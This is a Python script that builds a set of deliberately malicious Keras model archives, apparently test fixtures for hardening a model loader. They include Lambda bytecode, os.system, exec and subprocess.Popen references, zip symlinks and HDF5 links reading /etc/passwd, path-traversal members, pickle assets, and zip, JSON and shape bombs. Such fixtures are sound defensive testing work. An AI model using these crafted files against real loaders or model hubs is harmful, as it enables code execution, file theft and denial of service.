"""Makes model files that try to do harm, each in its own way, and one that does not: `python malicious.py FOLDER`.

None of them is ever loaded by this script; what they would run only prints.
"""

import io
import json
import stat
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

METADATA = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
CODE = "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wwAAAABAJUAWwEAACIAUwE="  # base64, as Lambda layers keep their bytecode


def layer(
    class_name: str, module: str | None = "keras.layers", registered: str | None = None, **config: Any
) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def model(*layers: dict[str, Any]) -> dict[str, Any]:
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32", name="input")
    return layer("Sequential", "keras", name="sequential", trainable=True, layers=[first, *layers])


def dense(**config: Any) -> dict[str, Any]:
    return layer("Dense", units=2, activation="softmax", name="dense", **config)


def weights(fill: Callable[[Any], object] = lambda file: None) -> bytes:
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        variables = file.create_group("layers/dense/vars")
        variables["0"], variables["1"] = np.ones((4, 2), np.float32), np.zeros(2, np.float32)
        fill(file)
    return content.getvalue()


def archive(config: Any, weights_file: bytes | None = None, extra: dict[str, bytes] | None = None, **how: Any) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        text = config if isinstance(config, bytes) else json.dumps(config).encode()
        members = {"metadata.json": json.dumps(METADATA).encode(), "config.json": text}
        members |= {"model.weights.h5": weights() if weights_file is None else weights_file} | (extra or {})
        for name, part in members.items():
            file.writestr(name, part)
    return content.getvalue()


def linked() -> bytes:
    """Whose weights are a link to a file of the server."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr("metadata.json", json.dumps(METADATA))
        file.writestr("config.json", json.dumps(model(dense())))
        link = zipfile.ZipInfo("model.weights.h5")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr(link, "/etc/passwd")
    return content.getvalue()


def twice() -> bytes:
    content = io.BytesIO(archive(model(dense())))
    with zipfile.ZipFile(content, "a") as file, warnings.catch_warnings(action="ignore"):  # the point is to do it
        file.writestr("config.json", json.dumps(model(layer("Lambda", function=CODE))))
    return content.getvalue()


def damaged(content: bytes, name: str, place: int, value: int) -> bytes:
    """With another number of four bytes at a place of what the directory at the end says of a member."""
    changed = bytearray(content)
    directory = 46  # bytes before the name
    entry = content.rindex(name.encode()) - directory
    struct.pack_into("<L", changed, entry + place, value)
    return bytes(changed)


def torn() -> bytes:
    content = archive(model(dense()))
    begin = content.index(b"model.weights.h5") + 60
    return content[:begin] + b"\xff" * 20 + content[begin + 20 :]


def deep() -> bytes:
    return json.dumps(model(dense())).replace('softmax"', 'softmax", "x": ' + "[" * 300 + "]" * 300).encode()


def virtual(file: Any) -> None:
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "data", (4,))
    file.create_virtual_dataset("stolen", layout)


def strangely_packed(file: Any) -> None:
    """In a way for which HDF5 would look for a library among the files of the server."""
    file.create_dataset("x", (4,), "f4", chunks=(4,), compression=32015, allow_unknown_filter=True)


SIZE, BEGIN = 24, 42  # places in the directory: how large a member becomes, and where it begins
LOOKUP = {"max_tokens": None, "num_oov_indices": 1, "name": "lookup"}
BAD: dict[str, Callable[[], bytes]] = {
    "lambda_bytecode": lambda: archive(
        model(layer("Lambda", function={"class_name": "__lambda__", "config": {"code": CODE, "defaults": None}}))
    ),
    "lambda_named_function": lambda: archive(
        model(layer("Lambda", function={"module": "os", "class_name": "function", "config": "system"}))
    ),
    "foreign_module": lambda: archive(model(layer("Popen", "subprocess", args=["id"]))),
    "function_as_activation": lambda: archive(
        model(dense(kernel_initializer={"module": "builtins", "class_name": "function", "config": "exec"}))
    ),
    "keras_internal": lambda: archive(model(layer("get_file", "keras.utils", origin="http://127.0.0.1/x"))),
    "unsafe_switch": lambda: archive(model(layer("enable_unsafe_deserialization", "keras.config"))),
    "registered_custom": lambda: archive(model(layer("Evil", "mine", "mine>Evil"))),
    "custom_of_the_main_program": lambda: archive(model(layer("Mine", None, "Mine"))),
    "custom_under_a_known_name": lambda: archive(model(layer("Dense", "keras.layers", "mine>Dense", units=2))),
    "saved_model_layer": lambda: archive(model(layer("TFSMLayer", filepath="/tmp/evil"))),
    "torch_pickle": lambda: archive(model(layer("TorchModuleWrapper", module="gASV"))),
    "vocabulary_path": lambda: archive(model(layer("StringLookup", vocabulary="/etc/passwd", **LOOKUP))),
    "vocabulary_url": lambda: archive(model(layer("IntegerLookup", vocabulary="http://127.0.0.1/", **LOOKUP))),
    "external_link": lambda: archive(
        model(dense()), weights(lambda file: file.__setitem__("x", h5py.ExternalLink("/etc/passwd", "/")))
    ),
    "soft_link": lambda: archive(model(dense()), weights(lambda file: file.__setitem__("x", h5py.SoftLink("/layers")))),
    "external_storage": lambda: archive(
        model(dense()),
        weights(lambda file: file.create_dataset("x", (4,), "u1", external=[("/etc/passwd", 0, 4)])),
    ),
    "virtual_dataset": lambda: archive(model(dense()), weights(virtual)),
    "shape_bomb": lambda: archive(
        model(dense()), weights(lambda file: file.create_dataset("x", (100_000, 100_000), "f4", chunks=(1000, 1000)))
    ),
    "references": lambda: archive(model(dense()), weights(lambda file: file.create_dataset("x", (1,), h5py.ref_dtype))),
    "zip_bomb": lambda: archive(model(dense()), b"\0" * 3_000_000),
    "json_bomb": lambda: archive(b'{"a":"' + b" " * 30_000_000 + b'"}', extra=None),
    "deep_json": lambda: archive(deep()),
    "traversal": lambda: archive(model(dense()), extra={"../../evil.py": b"print(1)"}),
    "absolute_path": lambda: archive(model(dense()), extra={"/tmp/evil.py": b"print(1)"}),
    "asset": lambda: archive(model(dense()), extra={"assets/evil.pkl": b"\x80\x04."}),
    "link": linked,
    "twice": twice,
    "pickle": lambda: b"\x80\x04\x95 not an archive",
    "no_model": lambda: archive(dense()),
    "huge_layer": lambda: archive(model(layer("Dense", units=10**10, name="huge"))),
    "huge_kernel": lambda: archive(model(layer("Conv2D", filters=8, kernel_size=[10**5, 10**5], name="huge"))),
    "huge_input": lambda: archive(
        layer("Sequential", "keras", layers=[layer("InputLayer", batch_shape=[None, 10**6, 10**6])])
    ),
    "half_a_character": lambda: archive(model(layer("\ud800", "mine"))),
    "torn_weights": torn,
    "smaller_than_it_is": lambda: damaged(archive(model(dense())), "model.weights.h5", SIZE, 100),
    "one_in_another": lambda: damaged(archive(model(dense())), "model.weights.h5", BEGIN, 0),
    "before_the_file": lambda: damaged(archive(model(dense())), "model.weights.h5", BEGIN, 2**32 - 2),
    "strangely_packed": lambda: archive(model(dense()), weights(strangely_packed)),
    "ring": lambda: archive(model(dense()), weights(lambda file: file.__setitem__("layers/again", file["/"]))),
    "lacks_weights": lambda: archive(model(dense()))[:40],
}


def good() -> bytes:
    return archive(model(dense()))


if __name__ == "__main__":
    for name, make in BAD.items():
        (Path(sys.argv[1]) / f"{name}.keras").write_bytes(make())
